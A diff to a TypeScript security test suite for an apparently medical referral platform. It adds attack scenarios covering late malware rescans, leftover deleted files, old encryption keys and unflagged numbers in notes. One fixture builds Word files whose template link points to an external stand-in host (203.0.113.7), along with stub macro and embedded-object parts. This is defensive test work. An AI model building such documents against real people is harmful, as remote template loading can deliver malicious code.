@@ -1,12 +1,23 @@
 import { createHash } from 'node:crypto';
+import * as z from 'zod';
 import { api } from '@handoff/shared/contract/api';
 import { EICAR } from '@handoff/local/malware-scan/scan-blob';
 import { AUDIT_HEAD, auditId } from '../../pipeline/unit-of-work/audit-chain.ts';
-import { pdf } from '../examples/drafts.ts';
+import { pdf, referralDraft, zipOf } from '../examples/drafts.ts';
 import { checkDraft } from '../examples/eligibility-examples.ts';
+import { formerKeys } from '../key-rotation.ts';
 import { HARBOR } from '../people.ts';
+import { openNumbers } from '../../records/sealed-numbers.ts';
 import { entriesAbout, recordPatients, type Attack, type Calls } from './attack.ts';
-import { takingEveryFile, takingEverySeal, withoutSealing, withScannedDocuments } from './removed-cures.ts';
+import { takingEveryDocument } from './composed-without.ts';
+import {
+  forgettingDeleted,
+  takingEveryFile,
+  takingEverySeal,
+  withoutSealing,
+  withoutSuspicion,
+  withScannedDocuments,
+} from './removed-cures.ts';
 import { edit, stored } from './stolen-database.ts';
 
 const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
@@ -78,6 +89,44 @@ export const storageAttacks: Attack[] = [
     withoutCure: ({ platform }) => ({ platform: { store: takingEveryFile(platform) } }),
   },
   {
+    finding: 'late malware',
+    name: 'have a file opened in which malware was found later',
+    async succeeds({ call, scan }) {
+      const { blobName } = await uploaded({ call }, 'of which nothing is known yet');
+      const open = () => call(api.services.downloadFile, { params: { blobName } }, { as: 'cal' });
+      await scan(blobName, 'No threats found');
+      if ((await open()).status !== 200) throw new Error('It was never clean');
+      await scan(blobName, 'Malicious');
+      return (await open()).status === 200;
+    },
+    withoutCure: ({ platform }) => ({ platform: { store: withScannedDocuments(platform.store) } }),
+  },
+  {
+    finding: 'active documents',
+    name: 'attach a Word document that fetches a template, runs a macro or holds an object',
+    async succeeds({ call }) {
+      const [ReferralId = ''] = await recordPatients({ call }, 1);
+      const fields = { DocumentTypeId: 'orders', ReferralId };
+      const answers = await Promise.all(
+        activeDocuments.map((file) => call(api.services.uploadFile, { fields, file }, { as: 'ana' })),
+      );
+      return answers.some(({ status }) => status === 200);
+    },
+    withoutCure: () => ({ app: { create: takingEveryDocument } }),
+  },
+  {
+    finding: 'file before record',
+    name: 'leave the file of a deleted document in the storage after its record is gone',
+    async succeeds({ call, stolen, pass }) {
+      const { blobName, Id } = await uploaded({ call }, 'as the hospital sent it');
+      (await call(api.services.deleteFile, { params: { blobName } }, { as: 'ana' })).ok();
+      for (let days = 0; days < 32; days += 4) await pass(4);
+      if (await stolen.store.app(inHarbor).read(Id)) throw new Error('Its record is still there');
+      return stolen.blobs.exists('documents', `${HARBOR}/${blobName}`);
+    },
+    withoutCure: ({ platform }) => ({ platform: { store: forgettingDeleted(platform.store) } }),
+  },
+  {
     finding: 'deleted',
     name: 'find the file of a deleted patient in the storage when its time is over',
     async succeeds({ call, stolen, pass }) {
@@ -89,6 +138,36 @@ export const storageAttacks: Attack[] = [
       return isThere();
     },
     withoutCure: () => ({ timers: false }),
+  },
+  {
+    finding: 'old keys',
+    name: 'read the number of a patient with a key that was replaced',
+    async succeeds({ call, stolen, renewKeys }) {
+      const draft = referralDraft();
+      const body = { ...draft, Patient: { ...draft.Patient, Ssn: '219-09-9999' } };
+      const [made] = (await call(api.referrals.create, { body }, { as: 'ana' })).ok().ReferralInfo;
+      await renewKeys();
+      const { id, Sealed } = Sealing.parse(await stored(stolen.store.app(inHarbor), made?.Id ?? ''));
+      try {
+        const numbers = await openNumbers(formerKeys, { domainId: HARBOR, id }, { Sealed });
+        return Object.keys(numbers).includes('Patient.Ssn');
+      } catch {
+        return false;
+      }
+    },
+    withoutCure: () => ({ timers: false }),
+  },
+  {
+    finding: 'typed numbers',
+    name: 'have a number typed into a note stay there without a warning',
+    async succeeds({ call }) {
+      const [id = ''] = await recordPatients({ call }, 1);
+      const body = { ReferralId: id, ReferralNotes: [{ Text: 'SSN 219-09-9999, card 1eg4-te5-mk73.' }] };
+      (await call(api.referrals.updateNotes, { body }, { as: 'cal' })).ok();
+      const [note] = (await call(api.referrals.byId, { query: { id } }, { as: 'ana' })).ok().ReferralNotes;
+      return (note?.SuspectedNumbers ?? []).length < 2;
+    },
+    withoutCure: ({ platform }) => ({ platform: { store: withoutSuspicion(platform.store) } }),
   },
   {
     finding: 'raw exchanges',
@@ -105,6 +184,18 @@ export const storageAttacks: Attack[] = [
     withoutCure: ({ platform }) => ({ platform: { fieldKeys: withoutSealing(platform.fieldKeys) } }),
   },
 ];
+
+const Sealing = z.object({ id: z.string(), Sealed: z.record(z.string(), z.string()) });
+
+const parts = { '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>' };
+const relation =
+  '<Relationships><Relationship Type="http://a/relationships/attachedTemplate" Target="http://203.0.113.7/a.dotm"' +
+  ' TargetMode="External"/></Relationships>';
+const activeDocuments = [
+  { 'word/_rels/settings.xml.rels': relation },
+  { 'word/VBAPROJECT.BIN': 'x' },
+  { 'word/embeddings/oleObject1.BIN': 'x' },
+].map((more) => new File([zipOf({ ...parts, ...more })], 'letter.docx'));
 
 async function uploaded({ call }: Calls, content: string) {
   const [ReferralId = ''] = await recordPatients({ call }, 1);
